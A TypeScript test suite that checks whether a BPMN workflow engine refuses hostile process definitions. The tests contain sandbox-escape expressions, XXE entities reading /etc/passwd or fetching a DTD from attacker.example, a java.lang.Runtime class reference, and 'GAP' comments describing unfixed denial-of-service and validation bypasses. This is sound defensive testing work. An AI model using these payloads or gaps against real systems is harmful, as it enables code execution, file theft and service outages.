import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect } from 'chai';
import { Engine } from 'bpmn-engine';
import { parseBpmnXml } from '../../engine/kernel/bpmn/parse.js';
import { InvalidDefinitionError, TooLargeError, type Problem } from '../../engine/kernel/errors.js';
import { ProcessEngine } from '../../engine/process-engine.js';
import { buildSourceContext, runStep, type CompiledDefinition, type StepResult } from '../../engine/kernel/runtime.js';
import { ServiceRegistry } from '../../engine/kernel/services.js';
import { SqliteStore } from '../../engine/adapters/sqlite/index.js';

/**
 * The security suite: hostile BPMN files (test/fixtures/hostile/, listed in its README.md) must be
 * refused at deployment with problems naming the offending element, leave nothing stored and have no
 * side effect; and, behind validation, the runtime must refuse scripts and hostile expressions itself.
 *
 * Tests titled "GAP:" document a weakness found while writing this suite. They fail until the engine
 * is fixed; do not weaken them to make them pass. `--grep GAP --invert` runs the rest.
 */

const FIXTURES = new URL('../fixtures/hostile/', import.meta.url);
const fixture = (name: string): string => readFileSync(new URL(name, FIXTURES), 'utf8');
const BASELINE = fixture('baseline.bpmn');
const ATTACKS = fixture('expression-attacks.txt')
  .split('\n')
  .map((line) => line.trim())
  .filter((line) => line && !line.startsWith('#'));

// The script payloads in the fixtures set this global and write this file when they run.
const MARKER_GLOBAL = '__imsflowHostileMarker';
const MARKER_FILE = join(tmpdir(), 'imsflow-hostile-marker');
const marker = (): unknown => (globalThis as Record<string, unknown>)[MARKER_GLOBAL];

function clearMarkers(): void {
  delete (globalThis as Record<string, unknown>)[MARKER_GLOBAL];
  rmSync(MARKER_FILE, { force: true });
}

function expectNoSideEffect(): void {
  expect(marker(), `a hostile script ran and set globalThis.${MARKER_GLOBAL}`).to.equal(undefined);
  expect(existsSync(MARKER_FILE), `a hostile script ran and wrote ${MARKER_FILE}`).to.equal(false);
}

const escapeXml = (text: string): string => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** Replaces exactly one occurrence, so a fixture edit that breaks a derived case fails loudly. */
function replaceOnce(xml: string, search: string, replacement: string): string {
  const at = xml.indexOf(search);
  expect(at, `"${search}" must occur in the XML`).to.be.greaterThan(-1);
  expect(xml.indexOf(search, at + 1), `"${search}" must occur only once`).to.equal(-1);
  return xml.slice(0, at) + replacement + xml.slice(at + search.length);
}

/**
 * Deploys into a fresh in-memory store and returns what deploy threw, after checking that nothing was
 * stored and no hostile script ran. Fails the test if deploy succeeded.
 */
async function deployHostile(xml: string, services?: ServiceRegistry): Promise<Error> {
  const store = new SqliteStore(':memory:');
  await store.init();
  try {
    const flow = new ProcessEngine({ store, ...(services && { services }) });
    let deployed: Awaited<ReturnType<ProcessEngine['deploy']>> | undefined;
    let thrown: unknown;
    try {
      deployed = await flow.deploy(xml, 'tester');
    } catch (err) {
      thrown = err;
    }
    if (deployed) expect.fail(`the hostile definition was deployed as ${deployed.key} v${deployed.version}`);
    expect(await store.listDefinitions(), 'nothing may be stored').to.deep.equal([]);
    expect(await flow.listDefinitions()).to.deep.equal([]);
    expectNoSideEffect();
    expect(thrown).to.be.instanceOf(Error);
    return thrown as Error;
  } finally {
    await store.close();
  }
}

/**
 * Expects InvalidDefinitionError with a problem naming `element` (or, for an array, any one of them),
 * whose message matches `message` when given.
 */
async function expectInvalid(xml: string, element: string | string[], message?: RegExp, services?: ServiceRegistry): Promise<Problem[]> {
  const err = await deployHostile(xml, services);
  expect(err, `expected InvalidDefinitionError, got ${err.name}: ${err.message}`).to.be.instanceOf(InvalidDefinitionError);
  const problems = (err as InvalidDefinitionError).problems;
  const wanted = Array.isArray(element) ? element : [element];
  const naming = problems.filter((p) => wanted.includes(p.element));
  expect(naming, `no problem names ${wanted.join(' or ')}: ${JSON.stringify(problems)}`).not.to.be.empty;
  if (message) {
    expect(
      naming.some((p) => message.test(p.message)),
      `no problem for ${wanted.join(' or ')} matches ${message}: ${JSON.stringify(naming)}`,
    ).to.equal(true);
  }
  return problems;
}

async function expectTooLarge(xml: string): Promise<void> {
  const err = await deployHostile(xml);
  expect(err, `expected TooLargeError, got ${err.name}: ${err.message.slice(0, 200)}`).to.be.instanceOf(TooLargeError);
}

/**
 * A CompiledDefinition built the way compileDefinition builds one, minus validateDefinition: what the
 * runtime would be handed if a hostile file ever slipped past validation.
 */
async function compileWithoutValidation(xml: string): Promise<CompiledDefinition> {
  const context = await parseBpmnXml(xml);
  // Skips validation only: the runtime's own element set (engine/kernel/safe-elements.ts) is part of what is tested.
  const sourceContext = buildSourceContext(context);
  return {
    record: { key: 'hostile', version: 1, name: 'Hostile', hash: 'unvalidated', xml, deployedAt: new Date(0).toISOString(), deployedBy: 'tester' },
    spec: { key: 'hostile', name: 'Hostile', userTasks: new Map(), serviceTasks: new Map(), startForm: [] },
    sourceContext,
  };
}

async function startUnvalidated(name: string, variables: Record<string, unknown> = {}): Promise<StepResult> {
  const definition = await compileWithoutValidation(fixture(name));
  return runStep(definition, null, { type: 'start', variables }, {
    instanceId: `hostile-${name}`,
    businessKey: 'HOSTILE-1',
    services: new ServiceRegistry(),
    records: { instances: async () => [], tasks: async () => [], user: async () => undefined, people: async () => [], sites: async () => [], registeredSites: async () => [], processes: async () => [] },
    now: () => new Date(),
    timeoutMs: 5_000,
  });
}

/**
 * Starts an unvalidated fixture in a child process, so a step that blocks the event loop can be killed.
 * Returns whether it finished within the time limit, and the step's outcome when it did.
 */
function startInChild(name: string, variables: Record<string, unknown>, timeoutMs: number): { finished: boolean; outcome?: string; detail: string } {
  const engine = new URL('../../engine/kernel/', import.meta.url).href;
  const code = `
    const input = JSON.parse(process.env.IMSFLOW_HOSTILE_INPUT);
    const { parseBpmnXml } = await import(input.engine + 'bpmn/parse.ts');
    const { runStep, buildSourceContext } = await import(input.engine + 'runtime.ts');
    const { ServiceRegistry } = await import(input.engine + 'services.ts');
    const context = await parseBpmnXml(input.xml);
    const definition = {
      record: { key: 'hostile', version: 1, name: 'Hostile', hash: 'x', xml: input.xml, deployedAt: '', deployedBy: 'tester' },
      spec: { key: 'hostile', name: 'Hostile', userTasks: new Map(), serviceTasks: new Map(), startForm: [] },
      sourceContext: buildSourceContext(context),
    };
    const result = await runStep(definition, null, { type: 'start', variables: input.variables }, {
      instanceId: 'child', businessKey: 'HOSTILE-1', services: new ServiceRegistry(), now: () => new Date(), timeoutMs: 2000,
    });
    process.stdout.write(JSON.stringify({ outcome: result.outcome, error: result.error }));
    process.exit(0);
  `;
  const child = spawnSync(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', code], {
    cwd: fileURLToPath(new URL('../..', import.meta.url)),
    env: { ...process.env, IMSFLOW_HOSTILE_INPUT: JSON.stringify({ engine, xml: fixture(name), variables }) },
    timeout: timeoutMs,
    encoding: 'utf8',
  });
  if (child.error || child.status !== 0) return { finished: false, detail: `${child.error?.message ?? `exit ${child.status}`} ${child.stderr.slice(0, 500)}` };
  const parsed = JSON.parse(child.stdout) as { outcome: string };
  return { finished: true, outcome: parsed.outcome, detail: child.stdout };
}

describe('security: hostile BPMN definitions', () => {
  beforeEach(clearMarkers);
  afterEach(clearMarkers);

  describe('deployment refuses hostile files', () => {
    it('deploys the baseline every hostile fixture is built from (control)', async () => {
      const store = new SqliteStore(':memory:');
      await store.init();
      const deployed = await new ProcessEngine({ store }).deploy(BASELINE, 'tester');
      expect(deployed).to.include({ key: 'hostile', version: 1, created: true });
      expect(await store.listDefinitions()).to.have.length(1);
      await store.close();
    });

    describe('scripts', () => {
      it('refuses a JavaScript script task, naming it', async () => {
        await expectInvalid(fixture('script-task.bpmn'), 'pwn', /script tasks are not allowed/);
      });

      it('refuses a script task hidden in an embedded sub-process', async () => {
        await expectInvalid(fixture('script-task-in-subprocess.bpmn'), 'pwn', /script tasks are not allowed/);
      });

      it('refuses a script task whatever its scriptFormat says', async () => {
        for (const format of ['JavaScript', 'js', 'text/javascript', 'groovy', '']) {
          const xml = replaceOnce(fixture('script-task.bpmn'), 'scriptFormat="javascript"', `scriptFormat="${format}"`);
          await expectInvalid(xml, 'pwn', /script tasks are not allowed/);
        }
      });

      it('refuses a script condition (language="javascript") on a sequence flow, naming the flow', async () => {
        await expectInvalid(fixture('script-condition.bpmn'), 'toReview', /condition written as a script/);
      });

      it('refuses a condition with any language attribute, even around an allowed ${...}', async () => {
        for (const language of ['JavaScript', 'js', 'groovy', 'feel']) {
          const xml = replaceOnce(fixture('script-condition.bpmn'), 'language="javascript"', `language="${language}"`);
          await expectInvalid(xml, 'toReview', /condition written as a script/);
        }
        const plain = replaceOnce(
          BASELINE,
          '<bpmn:sequenceFlow id="toReview" sourceRef="start" targetRef="review" />',
          '<bpmn:sequenceFlow id="toReview" sourceRef="start" targetRef="review"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression" language="javascript">${variables.ok == true}</bpmn:conditionExpression></bpmn:sequenceFlow>',
        );
        await expectInvalid(plain, 'toReview', /condition written as a script/);
      });

      it('refuses a condition that is not one ${...} expression', async () => {
        const xml = replaceOnce(
          BASELINE,
          '<bpmn:sequenceFlow id="toReview" sourceRef="start" targetRef="review" />',
          '<bpmn:sequenceFlow id="toReview" sourceRef="start" targetRef="review"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">process.exit(1)</bpmn:conditionExpression></bpmn:sequenceFlow>',
        );
        await expectInvalid(xml, 'toReview', /one expression/);
      });

      it('GAP: refuses a script task in a non-executable process that a message flow starts', async () => {
        // Found by this suite: validateDefinition checks only the executable process. A message flow
        // from any element of it makes bpmn-engine start the other process, whose elements nobody
        // validated. (The script itself is still refused at run time: see the runtime tests.)
        await expectInvalid(fixture('script-task-in-unvalidated-process.bpmn'), ['pwn', 'sidecar', 'wake', 'side', 'collaboration']);
      });
    });

    describe('expressions outside the grammar, wherever they appear', () => {
      const locations = [
        { where: 'a sequence flow condition', file: 'expr-condition.bpmn', attack: '${variables.x.constructor.constructor("return process")()}', element: 'toReview' },
        { where: "a user task's ims:assignee", file: 'expr-assignee.bpmn', attack: '${variables.__proto__}', element: 'review' },
        { where: 'a timer duration', file: 'expr-timer-duration.bpmn', attack: '${process.env.TIMER}', element: 'wait' },
        { where: 'a task name (inside other text)', file: 'expr-task-name.bpmn', attack: '${global.process}', element: 'review' },
        { where: 'an attribute of another namespace (camunda:assignee)', file: 'expr-foreign-attribute.bpmn', attack: '${environment.services.x}', element: 'review' },
        { where: 'documentation text', file: 'expr-documentation.bpmn', attack: '${variables["constructor"]}', element: 'review' },
        { where: 'a multi-instance ims:collection', file: 'expr-collection.bpmn', attack: '${variables.items.prototype}', element: 'review' },
      ];

      for (const location of locations) {
        describe(`in ${location.where} (${location.file})`, () => {
          it(`refuses ${location.attack}, naming ${location.element}`, async () => {
            await expectInvalid(fixture(location.file), location.element, /is not allowed/);
          });

          it('refuses every attack in expression-attacks.txt placed there', async () => {
            const original = fixture(location.file);
            for (const attack of ATTACKS) {
              const xml = replaceOnce(original, location.attack, escapeXml(attack));
              await expectInvalid(xml, location.element, /is not allowed|must be one expression/);
            }
          });
        });
      }

      it('refuses an expression spelled with XML character references (&#36;&#123;...)', async () => {
        await expectInvalid(fixture('expr-entity-encoded.bpmn'), 'review', /constructor/);
      });

      it('refuses an expression in a CDATA section', async () => {
        const xml = replaceOnce(
          fixture('expr-condition.bpmn'),
          '${variables.x.constructor.constructor("return process")()}',
          '<![CDATA[${variables.x.constructor.constructor("return process")()}]]>',
        );
        await expectInvalid(xml, 'toReview', /is not allowed/);
      });

      it('refuses an expression in an error code, a process attribute and an unknown extension element', async () => {
        const errorCode = replaceOnce(BASELINE, '<bpmn:process id="hostile"', '<bpmn:error id="failure" errorCode="${variables.constructor}" />\n  <bpmn:process id="hostile"');
        await expectInvalid(errorCode, 'failure', /is not allowed/);
        const ownerRole = replaceOnce(BASELINE, 'isExecutable="true"', 'isExecutable="true" ims:ownerRole="${process.env}"');
        await expectInvalid(ownerRole, 'hostile', /is not allowed/);
        const extension = replaceOnce(
          BASELINE,
          '<bpmn:incoming>toReview</bpmn:incoming>',
          '<bpmn:extensionElements><x:hook xmlns:x="http://example.com/x" run="${global.process}">${this.constructor}</x:hook></bpmn:extensionElements>\n      <bpmn:incoming>toReview</bpmn:incoming>',
        );
        await expectInvalid(extension, 'review', /is not allowed/);
      });
    });

    describe('XML the parser must never expand', () => {
      it('refuses a DOCTYPE with internal entities (billion laughs), without expanding them', async () => {
        const started = Date.now();
        await expectInvalid(fixture('billion-laughs.bpmn'), 'xml', /DOCTYPE/);
        expect(Date.now() - started).to.be.lessThan(2_000);
      });

      it('refuses an external entity (SYSTEM "file:///etc/passwd") without reading the file', async () => {
        const err = await deployHostile(fixture('external-entity.bpmn'));
        expect(err).to.be.instanceOf(InvalidDefinitionError);
        expect((err as InvalidDefinitionError).problems).to.deep.include({ element: 'xml', message: 'DOCTYPE declarations are not allowed (they enable entity expansion attacks)' });
        expect(err.message).not.to.match(/root:/);
      });

      it('refuses other DOCTYPE and ENTITY spellings', async () => {
        const declaration = '<?xml version="1.0" encoding="UTF-8"?>';
        const variants = [
          '<!doctype bpmn:definitions>',
          '<!DOCTYPE bpmn:definitions SYSTEM "http://attacker.example/evil.dtd">',
          '<!DOCTYPE bpmn:definitions [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>',
          '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
        ];
        for (const variant of variants) {
          await expectInvalid(replaceOnce(BASELINE, declaration, `${declaration}\n${variant}`), 'xml');
        }
      });
    });

    describe('size limits', () => {
      it('refuses a file over 2 MiB with TooLargeError', async () => {
        const padding = 'a'.repeat(2 * 1024 * 1024);
        await expectTooLarge(replaceOnce(BASELINE, '<bpmn:incoming>toReview</bpmn:incoming>', `<bpmn:documentation>${padding}</bpmn:documentation><bpmn:incoming>toReview</bpmn:incoming>`));
      });

      it('counts the limit in bytes, not characters', async () => {
        const padding = 'é'.repeat(1024 * 1024 + 10); // 2 bytes each in UTF-8: just over 2 MiB, about 1 M characters
        await expectTooLarge(replaceOnce(BASELINE, '<bpmn:incoming>toReview</bpmn:incoming>', `<bpmn:documentation>${padding}</bpmn:documentation><bpmn:incoming>toReview</bpmn:incoming>`));
      });

      it('accepts a file of exactly 2 MiB (control for the limit)', async () => {
        const shell = replaceOnce(BASELINE, '<bpmn:incoming>toReview</bpmn:incoming>', '<bpmn:documentation>PAD</bpmn:documentation><bpmn:incoming>toReview</bpmn:incoming>');
        const xml = shell.replace('PAD', 'a'.repeat(2 * 1024 * 1024 - Buffer.byteLength(shell) + 3));
        expect(Buffer.byteLength(xml)).to.equal(2 * 1024 * 1024);
        const store = new SqliteStore(':memory:');
        await store.init();
        await new ProcessEngine({ store }).deploy(xml, 'tester');
        expect(await store.listDefinitions()).to.have.length(1);
        await store.close();
      });

      it('refuses a file with more than 5,000 elements with TooLargeError', async () => {
        const tasks = Array.from({ length: 5_001 }, (_, i) => `<bpmn:task id="t${i}" />`).join('');
        await expectTooLarge(replaceOnce(BASELINE, '<bpmn:endEvent id="end">', `${tasks}\n    <bpmn:endEvent id="end">`));
      });

      it('GAP: refuses deeply nested extension elements with InvalidDefinitionError or TooLargeError, not a stack overflow', async () => {
        // Found by this suite: checkAllExpressions (engine/kernel/bpmn/validate.ts) recurses once per nesting
        // level; ~3,000 levels of id-less elements (about 30 KB) overflow the stack and deploy throws a
        // bare RangeError ("Maximum call stack size exceeded") instead of a problem list.
        const depth = 10_000;
        const nested = `<x:a xmlns:x="http://example.com/x">${'<x:a>'.repeat(depth)}${'</x:a>'.repeat(depth + 1)}`;
        const xml = replaceOnce(BASELINE, '<bpmn:incoming>toReview</bpmn:incoming>', `<bpmn:extensionElements>${nested}</bpmn:extensionElements><bpmn:incoming>toReview</bpmn:incoming>`);
        const err = await deployHostile(xml);
        expect([InvalidDefinitionError.name, TooLargeError.name], `deploy threw ${err.name}: ${err.message}`).to.include(err.name);
      });
    });

    describe('input that is not BPMN XML', () => {
      it('refuses non-XML garbage', async () => {
        await expectInvalid(fixture('garbage.bpmn'), 'xml', /not well-formed/);
      });

      it('refuses truncated XML', async () => {
        await expectInvalid(fixture('truncated.bpmn'), 'xml', /not well-formed/);
      });

      it('refuses the baseline cut off after any line', async () => {
        const lines = BASELINE.trimEnd().split('\n');
        for (let n = 1; n < lines.length; n += 1) {
          await expectInvalid(`${lines.slice(0, n).join('\n')}\n`, 'xml');
        }
      });

      it('refuses an empty file, NUL bytes, JSON, HTML and an XML declaration alone', async () => {
        await expectInvalid('', 'xml');
        await expectInvalid('   \n\t', 'xml');
        await expectInvalid(replaceOnce(BASELINE, 'name="Review"', 'name="Re\u0000view"'), 'xml', /NUL/);
        await expectInvalid('{"definitions": {"process": "hostile"}}', 'xml');
        await expectInvalid('<html><body><script>alert(1)</script></body></html>', 'xml');
        await expectInvalid('<?xml version="1.0" encoding="UTF-8"?>', 'xml');
      });
    });

    describe('service tasks', () => {
      it('refuses a service that is not registered, naming the task', async () => {
        await expectInvalid(fixture('service-unregistered.bpmn'), 'notify', /calls the service “exfiltrate-records”, which is not registered/);
        const services = new ServiceRegistry().register('send-mail', { description: 'sends mail', run: () => ({}) });
        await expectInvalid(fixture('service-unregistered.bpmn'), 'notify', /not registered \(registered: send-mail\)/, services);
      });

      it('refuses implementation="${environment.services.x}"', async () => {
        const problems = await expectInvalid(fixture('service-implementation-expression.bpmn'), 'notify', /registered services only/);
        expect(problems.some((p) => p.element === 'notify' && /is not allowed/.test(p.message))).to.equal(true);
      });

      it('refuses an implementation even next to a registered ims:service, and camunda:expression / camunda:class', async () => {
        const services = new ServiceRegistry().register('send-mail', { description: 'sends mail', run: () => ({}) });
        const original = fixture('service-implementation-expression.bpmn');
        const attack = 'implementation="${environment.services.x}"';
        const variants = [
          'ims:service="send-mail" implementation="${environment.services.x}"',
          'ims:service="send-mail" implementation="##WebService"',
          'ims:service="send-mail" xmlns:camunda="http://camunda.org/schema/1.0/bpmn" camunda:expression="${environment.services.x}"',
          'ims:service="send-mail" xmlns:camunda="http://camunda.org/schema/1.0/bpmn" camunda:class="java.lang.Runtime"',
        ];
        for (const variant of variants) {
          await expectInvalid(replaceOnce(original, attack, variant), 'notify', /registered services only/, services);
        }
      });
    });

    describe('process shapes the engine cannot run safely', () => {
      it('refuses an inclusive gateway that joins, naming it', async () => {
        await expectInvalid(fixture('inclusive-join.bpmn'), 'join', /inclusive gateway cannot join/);
      });

      it('refuses a timer with an invalid duration (P3X)', async () => {
        await expectInvalid(fixture('timer-invalid-duration.bpmn'), 'wait', /invalid timer: "P3X"/);
      });

      it('refuses a timer with an invalid date', async () => {
        await expectInvalid(fixture('timer-invalid-date.bpmn'), 'wait', /invalid timer: .*not a valid ISO 8601 date/);
      });

      it('refuses a timer with an invalid cycle', async () => {
        await expectInvalid(fixture('timer-invalid-cycle.bpmn'), 'wait', /invalid timer: .*cycle/);
      });

      it('refuses a zero and a negative duration', async () => {
        for (const value of ['PT0S', 'P0D', '-P1D', '']) {
          await expectInvalid(replaceOnce(fixture('timer-invalid-duration.bpmn'), '>P3X<', `>${value}<`), 'wait', /timer/);
        }
      });

      it('GAP: refuses a timer cycle whose next expiry can never be computed (R/PT0S)', async () => {
        // Found by this suite: timerProblem (engine/kernel/durations.ts) accepts any parseable cycle. For an
        // unbounded cycle of zero-length periods, @0dep/piso's getExpireAt (called by bpmn-engine's
        // TimerEventDefinition when the timer starts) loops forever: the first instance to reach the
        // timer blocks the event loop of the whole server. Never run this file.
        await expectInvalid(fixture('timer-zero-cycle.bpmn'), 'wait', /timer/);
      });

      it('GAP: refuses a timer that repeats every millisecond since 2000 (R/2000-01-01T00:00:00Z/PT0.001S)', async () => {
        // Found by this suite: same endless getExpireAt loop, and accepted even as a timeDuration.
        const cycle = replaceOnce(fixture('timer-zero-cycle.bpmn'), '>R/PT0S<', '>R/2000-01-01T00:00:00Z/PT0.001S<');
        await expectInvalid(cycle, 'wait', /timer/);
        const duration = replaceOnce(fixture('timer-invalid-duration.bpmn'), '>P3X<', '>R/2000-01-01T00:00:00Z/PT0.001S<');
        await expectInvalid(duration, 'wait', /timer/);
      });

      it('refuses a user task with no candidate role and no assignee', async () => {
        await expectInvalid(fixture('user-task-unassigned.bpmn'), 'review', /needs someone to do it: choose a role or a person/);
      });

      it('refuses two executable processes', async () => {
        await expectInvalid(fixture('two-executable-processes.bpmn'), 'definitions', /exactly one process that imsflow runs.*2 are/);
      });

      it('refuses a call activity, naming it', async () => {
        await expectInvalid(fixture('call-activity.bpmn'), 'call', /call activities are not supported/);
      });

      it('refuses a message catch event, naming it', async () => {
        await expectInvalid(fixture('message-event.bpmn'), 'wait', /message (end )?event without a name is not supported/);
      });

      it('refuses a message start event and a message end event', async () => {
        const start = replaceOnce(BASELINE, '<bpmn:outgoing>toReview</bpmn:outgoing>', '<bpmn:outgoing>toReview</bpmn:outgoing>\n      <bpmn:messageEventDefinition />');
        await expectInvalid(start, 'start', /start events must be plain/);
        const end = replaceOnce(BASELINE, '<bpmn:incoming>toEnd</bpmn:incoming>', '<bpmn:incoming>toEnd</bpmn:incoming>\n      <bpmn:messageEventDefinition />');
        await expectInvalid(end, 'end', /message (end )?event without a name is not supported/);
      });
    });
  });

  describe('runtime defence in depth (validation bypassed)', () => {
    it('the script payloads are live: plain bpmn-engine runs them (control)', async () => {
      // Proves the fixtures would do harm if imsflow's protections were removed: with bpmn-engine's
      // default scripts, both payloads escape the vm sandbox, set the global and write the file.
      for (const name of ['script-task.bpmn', 'script-condition.bpmn']) {
        clearMarkers();
        const engine = new Engine({ name: 'control', source: fixture(name) });
        await engine.execute();
        await new Promise((resolve) => setTimeout(resolve, 20));
        await engine.stop();
        expect(marker(), name).to.be.a('string');
        expect(existsSync(MARKER_FILE), name).to.equal(true);
      }
    });

    it('a script task fails the step as an incident and never runs', async () => {
      const result = await startUnvalidated('script-task.bpmn');
      expect(result.outcome).to.equal('failed');
      expect(result.error?.elementId).to.equal('pwn');
      expect(result.error?.message).to.match(/Script format javascript is unsupported or was not registered/);
      expect(result.engineState).to.equal(null);
      expect(result.waitingTasks).to.deep.equal([]);
      expectNoSideEffect();
    });

    it('a script task in an embedded sub-process fails the step and never runs', async () => {
      const result = await startUnvalidated('script-task-in-subprocess.bpmn');
      expect(result.outcome).to.equal('failed');
      expect(result.error?.elementId).to.equal('pwn');
      expectNoSideEffect();
    });

    it('a script task in a process started by a message flow never runs', async () => {
      const result = await startUnvalidated('script-task-in-unvalidated-process.bpmn');
      expect(result.outcome).to.equal('failed');
      expect(result.error?.elementId).to.equal('pwn');
      expectNoSideEffect();
    });

    it('a script condition never runs', async () => {
      await startUnvalidated('script-condition.bpmn');
      expectNoSideEffect();
    });

    it('GAP: a script condition fails the step instead of counting as true', async () => {
      // Found by this suite: runtime.ts says a script that slips through makes bpmn-engine fail the
      // element. True for script tasks, not for conditions: bpmn-elements' SequenceFlow.getCondition
      // falls back to an expression condition when no script is registered, resolveTemplate returns
      // the script text unchanged (it holds no ${...}), and that non-empty string is truthy: the flow
      // is taken as if the condition held. Nothing runs, but routing is silently wrong.
      const result = await startUnvalidated('script-condition.bpmn');
      expectNoSideEffect();
      expect(result.outcome, `the flow was taken; tasks now waiting: ${result.waitingTasks.map((t) => t.elementId).join(', ')}`).to.equal('failed');
    });

    it('a hostile condition expression fails the step with the expression refused', async () => {
      const result = await startUnvalidated('expr-condition.bpmn', { x: 'anything' });
      expect(result.outcome).to.equal('failed');
      expect(result.error?.message).to.match(/^expression refused: function calls are not allowed/);
      expectNoSideEffect();
    });

    it('a hostile multi-instance collection fails the step', async () => {
      const result = await startUnvalidated('expr-collection.bpmn', { items: ['a', 'b'] });
      expect(result.outcome).to.equal('failed');
      expect(result.error?.message).to.match(/^expression refused: "prototype" may not be used in a path/);
    });

    it('a hostile timer duration fails the step at the timer', async () => {
      const result = await startUnvalidated('expr-timer-duration.bpmn');
      expect(result.outcome).to.equal('failed');
      expect(result.error?.elementId).to.equal('wait');
      expect(result.error?.message).to.match(/^expression refused: paths must start with variables, output or item/);
      expect(result.armedTimers).to.deep.equal([]);
    });

    it('a service task with implementation="${...}" and no registered service fails the step', async () => {
      const result = await startUnvalidated('service-implementation-expression.bpmn');
      expect(result.outcome).to.equal('failed');
      expect(result.error?.elementId).to.equal('notify');
      expect(result.error?.message).to.match(/is not registered on this server/);
    });

    it('a timer value from a variable reaches the engine only when safe', function () {
      this.timeout(30_000);
      const run = startInChild('timer-from-variable.bpmn', { wait: 'PT1H' }, 15_000);
      expect(run.finished, run.detail).to.equal(true);
      expect(run.outcome).to.equal('waiting');
    });

    it('GAP: a timer value of "R/PT0S" from a start variable does not hang the step', function () {
      // Found by this suite: the file is valid (its duration is ${variables.wait}); the attack is the
      // variable, which nothing checks before bpmn-engine parses it. @0dep/piso's getExpireAt loops
      // forever on an unbounded cycle of zero-length periods, synchronously, so runStep's own timeout
      // never fires and the process hangs. Run in a child process, killed after 8 s.
      this.timeout(30_000);
      const run = startInChild('timer-from-variable.bpmn', { wait: 'R/PT0S' }, 8_000);
      expect(run.finished, `runStep did not return within 8 s: ${run.detail}`).to.equal(true);
      expect(run.outcome).to.equal('failed');
    });
  });
});
